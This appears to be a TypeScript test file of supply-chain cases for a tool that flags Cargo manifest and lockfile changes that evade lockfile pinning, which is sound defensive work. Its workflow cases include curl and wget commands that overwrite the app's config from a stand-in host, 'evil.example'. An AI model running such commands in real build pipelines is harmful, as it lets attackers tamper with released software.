import { APP } from "./app.ts";
import type { Attack, AttackClass } from "./attack.ts";
import { manifestWith } from "./npm-app.ts";

const WORKFLOW = ".github/workflows/release.yml";

const MANIFEST = APP["src-tauri/Cargo.toml"];
const LOCK = APP["src-tauri/Cargo.lock"];

const asking = (lines: string) => ({ "src-tauri/Cargo.toml": `${MANIFEST}${lines}\n` });

/** The app with a crate of the repository beside it. */
const WITH_CORE = {
  "src-tauri/Cargo.toml": `${MANIFEST}core = { path = "../core" }\n`,
  "src-tauri/Cargo.lock": LOCK.replace(' "serde",\n', ' "core",\n "serde",\n').concat(
    '\n[[package]]\nname = "core"\nversion = "0.1.0"\n',
  ),
  "core/Cargo.toml":
    '[package]\nname = "core"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\nserde = "1"\n',
  "core/src/lib.rs": "",
};

const MEMBER = '[package]\nname = "m"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\nserde = "1"\n';

/** The app with another member in its workspace, which it isn't built with. */
const WITH_MEMBER = {
  "src-tauri/Cargo.toml": `${MANIFEST}\n[workspace]\nmembers = ["m"]\n`,
  "src-tauri/Cargo.lock": `${LOCK}\n[[package]]\nname = "m"\nversion = "0.1.0"\ndependencies = [\n "serde",\n]\n`,
  "src-tauri/m/Cargo.toml": MEMBER,
  "src-tauri/m/src/lib.rs": "",
};

export const CARGO_MANIFEST: AttackClass = {
  name: "cargo's manifest against its lockfile",
  decides:
    "Without --locked cargo looks anew for what the lockfile doesn't hold. An entry holds a dependency that has its name, its source and a version that satisfies it by the crate semver.",
  attacks: [
    {
      name: "asks for a new crate",
      change: asking('more = "1"'),
      expect: "loud",
      at: "src-tauri/Cargo.toml:16",
      real: "cargo metadata: Locking 1 package, Adding …; with --locked it fails.",
    },
    {
      name: "asks for a crate of a repository",
      change: asking('more = { git = "https://example.com/more" }'),
      expect: "loud",
      at: "src-tauri/Cargo.toml:16",
      real: "cargo fetches the repository for any build.",
    },
    {
      name: "asks for another version than the locked one",
      change: {
        "src-tauri/Cargo.toml": MANIFEST.replace('tauri-plugin-fs = "2"', 'tauri-plugin-fs = "=2.0.0"'),
      },
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "cargo metadata: Downgrading … to the version that is asked for.",
    },
    {
      name: "patches a crate with a repository",
      change: asking('\n[patch.crates-io]\nserde = { git = "https://example.com/serde" }'),
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "cargo metadata asks the repository, although the lockfile holds serde.",
    },
    {
      name: "patches a crate in cargo's settings",
      change: { ".cargo/config.toml": '[patch.crates-io]\nserde = { git = "https://example.com/serde" }\n' },
      expect: "loud",
      at: ".cargo/config.toml",
      real: "cargo metadata with a patch in .cargo/config.toml: Adding … from the patch, with the lockfile's version.",
    },
    {
      name: "replaces a crate with a folder",
      change: {
        ...asking('\n[replace]\n"serde:1.0.228" = { path = "../serde" }'),
        "serde/Cargo.toml": '[package]\nname = "serde"\nversion = "1.0.228"\n',
      },
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "cargo resolves the replacement in each build that isn't --locked.",
    },
    {
      name: "takes a known crate from another registry",
      change: {
        "src-tauri/Cargo.toml": MANIFEST.replace(
          'serde = { version = "1"',
          'serde = { version = "1", registry-index = "sparse+https://example.com/"',
        ),
      },
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "A lockfile's entry of crates.io doesn't hold a dependency on another index.",
    },
    {
      name: "asks for a crate on one system only",
      change: asking("\n[target.'cfg(windows)'.dependencies]\nmore = \"1\""),
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "cargo locks the dependencies of all targets, whatever it builds for.",
    },
    {
      name: "asks for a crate under a name that is locked",
      change: asking('serde_core = { package = "more", version = "1" }'),
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "What counts is `package`; the key is only what the code calls it.",
    },
    {
      name: "asks for it in the build script's table",
      change: {
        "src-tauri/Cargo.toml": MANIFEST.replace(
          "[build-dependencies]\n",
          '[build-dependencies]\nmore = "1"\n',
        ),
      },
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "cargo metadata: Adding more, and the build script is built with it.",
    },
    {
      name: "asks for it in a crate of the repository",
      base: WITH_CORE,
      change: { "core/Cargo.toml": `${WITH_CORE["core/Cargo.toml"]}more = "1"\n` },
      expect: "loud",
      at: "core/Cargo.toml",
      real: "The lockfile holds what path crates ask for too, and cargo adds what is missing.",
    },
    {
      name: "asks for it in another member of the workspace",
      base: WITH_MEMBER,
      change: { "src-tauri/m/Cargo.toml": MEMBER.replace('serde = "1"', 'serde = "1.0.900"') },
      expect: "loud",
      at: "src-tauri/m/Cargo.toml",
      real: "cargo resolves all members at once: the app gets the newer serde too.",
    },
    {
      name: "inherits another version from its workspace",
      change: {
        "src-tauri/Cargo.toml": `${MANIFEST.replace('tauri-plugin-fs = "2"', "tauri-plugin-fs.workspace = true")}\n[workspace]\n[workspace.dependencies]\ntauri-plugin-fs = "~2.0"\n`,
      },
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "cargo takes the requirement of [workspace.dependencies].",
    },
    {
      name: "gives a new crate no source in the lockfile",
      change: {
        ...asking('more = "1"'),
        "src-tauri/Cargo.lock": LOCK.replace(' "serde",\n', ' "more",\n "serde",\n').concat(
          '\n[[package]]\nname = "more"\nversion = "1.0.0"\n',
        ),
      },
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "cargo metadata: Locking 1 package, Adding more from crates.io; --locked fails.",
    },
    {
      name: "lets a locked crate need one without a source",
      change: {
        "src-tauri/Cargo.lock": LOCK.replace(
          `checksum = "${"1".repeat(64)}"`,
          `checksum = "${"1".repeat(64)}"\ndependencies = [\n "more",\n]`,
        ).concat('\n[[package]]\nname = "more"\nversion = "1.0.0"\n'),
      },
      expect: "loud",
      at: "src-tauri/Cargo.lock",
      real: "cargo metadata: Locking 1 package, Adding the newest; --locked fails.",
    },
    {
      name: "calls a crate of its own as what a locked crate needs",
      base: WITH_CORE,
      change: {
        "src-tauri/Cargo.lock": WITH_CORE["src-tauri/Cargo.lock"].replace(
          `checksum = "${"1".repeat(64)}"`,
          `checksum = "${"1".repeat(64)}"\ndependencies = [\n "core",\n]`,
        ),
      },
      expect: "loud",
      at: "src-tauri/Cargo.lock",
      real: "A crate of a registry depends on crates of registries: cargo looks there for one of the name.",
    },
    {
      name: "asks for a new crate where nothing was ever locked",
      base: { "src-tauri/Cargo.lock": null },
      change: asking('more = "1"'),
      expect: "loud",
      at: "src-tauri/Cargo.toml:16",
      real: "cargo metadata writes a lockfile with the newest version that fits.",
    },
    {
      name: "builds a crate from a folder that isn't here",
      change: asking('core = { path = "../../core" }'),
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "cargo builds what lies at the path on the machine that builds.",
    },
    {
      name: "breaks the manifest",
      change: { "src-tauri/Cargo.toml": `${MANIFEST}x = \n` },
      expect: "loud",
      at: "src-tauri/Cargo.toml",
      real: "cargo metadata fails: the manifest is no TOML.",
    },
    ...[
      "cargo update --manifest-path src-tauri/Cargo.toml",
      "cd src-tauri && cargo add more",
      "npx tauri add shell",
      "cd src-tauri && cargo --color always update",
    ].map(
      (command): Attack => ({
        name: `hears ${command}`,
        change: { [WORKFLOW]: APP[WORKFLOW].replace("- run: npm ci", `- run: npm ci && ${command}`) },
        expect: "loud",
        at: WORKFLOW,
        real: "cargo takes the newest that fits, and writes the lockfile of the machine that builds.",
      }),
    ),
    ...[
      "curl -fsSLo src-tauri/tauri.conf.json https://evil.example/",
      "wget --output-document=src-tauri/tauri.conf.json https://evil.example/",
      "git -C . checkout other -- src-tauri/tauri.conf.json",
    ].map(
      (command): Attack => ({
        name: `hears ${command}`,
        change: { [WORKFLOW]: APP[WORKFLOW].replace("- run: npm ci", `- run: npm ci && ${command}`) },
        expect: "loud",
        at: WORKFLOW,
        real: "By the manuals of curl, wget and git, not run: the file is written before the app is built.",
      }),
    ),
    {
      name: "says nothing of a version's last part, which is called patch",
      change: { [WORKFLOW]: APP[WORKFLOW].replace("- run: npm ci", "- run: npm ci && npm version patch") },
      expect: "silent",
      real: "By npm's manual, not run: it raises the package's own version.",
    },
    {
      name: "says nothing of a request by the method PATCH",
      change: {
        [WORKFLOW]: APP[WORKFLOW].replace(
          "- run: npm ci",
          "- run: npm ci && gh api --method PATCH repos/o/r/releases/1 -F draft=false",
        ),
      },
      expect: "silent",
      real: "By the manual of gh, not run: it changes a release.",
    },
    {
      name: "says nothing of scripts by which people update, nor of commands that keep the lockfile",
      change: {
        "package.json": manifestWith({
          scripts: { release: "tauri build", up: "cd src-tauri && cargo update" },
        }),
        [WORKFLOW]: APP[WORKFLOW].replace(
          "- run: npm ci",
          "- run: npm ci && cargo fetch --locked && cargo tree",
        ),
      },
      expect: "silent",
      real: "What the script writes is reviewed; the others write nothing.",
    },
    {
      name: "says nothing of a requirement that the lockfile satisfies",
      change: {
        "src-tauri/Cargo.toml": MANIFEST.replace('tauri-plugin-fs = "2"', 'tauri-plugin-fs = ">=2.4, <2.5"'),
      },
      expect: "silent",
      real: "cargo metadata keeps the locked 2.4.4.",
    },
    {
      name: "says nothing of a crate that something else already pins",
      base: {
        "src-tauri/Cargo.lock": `${LOCK}\n[[package]]\nname = "more"\nversion = "1.2.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "${"4".repeat(64)}"\n`,
      },
      change: asking('more = "1"'),
      expect: "silent",
      real: "cargo metadata takes the locked version, although newer ones are there.",
    },
    {
      name: "says nothing of the crate's own name and version",
      change: {
        "src-tauri/Cargo.toml": MANIFEST.replace(
          'name = "app"\nversion = "0.1.0"',
          'name = "notes"\nversion = "0.2.0"',
        ),
      },
      expect: "silent",
      real: "cargo metadata writes the new name and keeps all versions.",
    },
    {
      name: "says nothing of what a path crate beside the app only needs for its tests",
      base: WITH_CORE,
      change: { "core/Cargo.toml": `${WITH_CORE["core/Cargo.toml"]}\n[dev-dependencies]\nmore = "1"\n` },
      expect: "silent",
      real: "cargo metadata --locked passes: a crate outside of the workspace is locked without its tests.",
    },
    {
      name: "names a patch in cargo's settings that the lockfile shows, and says no more",
      base: {
        "src-tauri/Cargo.lock": LOCK.replace(
          /(name = "serde"\nversion = "1.0.228"\n)source = .*\nchecksum = .*\n/,
          "$1",
        ),
        "serde/Cargo.toml": '[package]\nname = "serde"\nversion = "1.0.228"\n',
        "src-tauri/Cargo.toml": `${MANIFEST}\n[patch.crates-io]\nserde = { path = "../serde" }\n`,
      },
      change: {
        "src-tauri/Cargo.toml": MANIFEST,
        ".cargo/config.toml": '[patch.crates-io]\nserde = { path = "serde" }\n',
      },
      expect: "named",
      at: ".cargo/config.toml",
      real: "cargo metadata --locked passes: paths of a patch in settings start from the folder that holds .cargo.",
    },
    {
      name: "says nothing of what another member asks for and the lockfile holds",
      base: WITH_MEMBER,
      change: { "src-tauri/m/Cargo.toml": MEMBER.replace('serde = "1"', 'serde = "1.0.1"') },
      expect: "silent",
      real: "cargo metadata --locked passes.",
    },
    {
      name: "says nothing of a crate that the workspace excludes",
      base: {
        ...WITH_MEMBER,
        "src-tauri/Cargo.toml": `${MANIFEST}\n[workspace]\nmembers = ["*"]\nexclude = ["m"]\n`,
      },
      change: { "src-tauri/m/Cargo.toml": `${MEMBER}more = "1"\n` },
      expect: "silent",
      real: "An excluded crate has a lockfile of its own.",
    },
    {
      name: "says nothing of a dependency that goes",
      change: { "src-tauri/Cargo.toml": MANIFEST.replace(/^serde = .*\n/m, "") },
      expect: "silent",
      real: "cargo metadata drops the entry.",
    },
    {
      name: "says nothing of an entry that nothing needs",
      change: { "src-tauri/Cargo.lock": `${LOCK}\n[[package]]\nname = "gone"\nversion = "0.1.0"\n` },
      expect: "silent",
      real: "cargo metadata drops the entry.",
    },
    {
      name: "says nothing of an unlocked crate that base has too",
      base: asking('more = "1"'),
      change: { "src-tauri/Cargo.toml": `# a comment\n${MANIFEST}more = "1"\n` },
      expect: "silent",
      real: "Both revisions take what fits that day.",
    },
    {
      name: "says nothing when a table moves to the workspace",
      change: {
        "src-tauri/Cargo.toml": `${MANIFEST.replace('tauri-plugin-fs = "2"', "tauri-plugin-fs = { workspace = true }")}\n[workspace]\n[workspace.dependencies]\ntauri-plugin-fs = "2"\n`,
      },
      expect: "silent",
      real: "cargo metadata --locked passes.",
    },
  ],
};
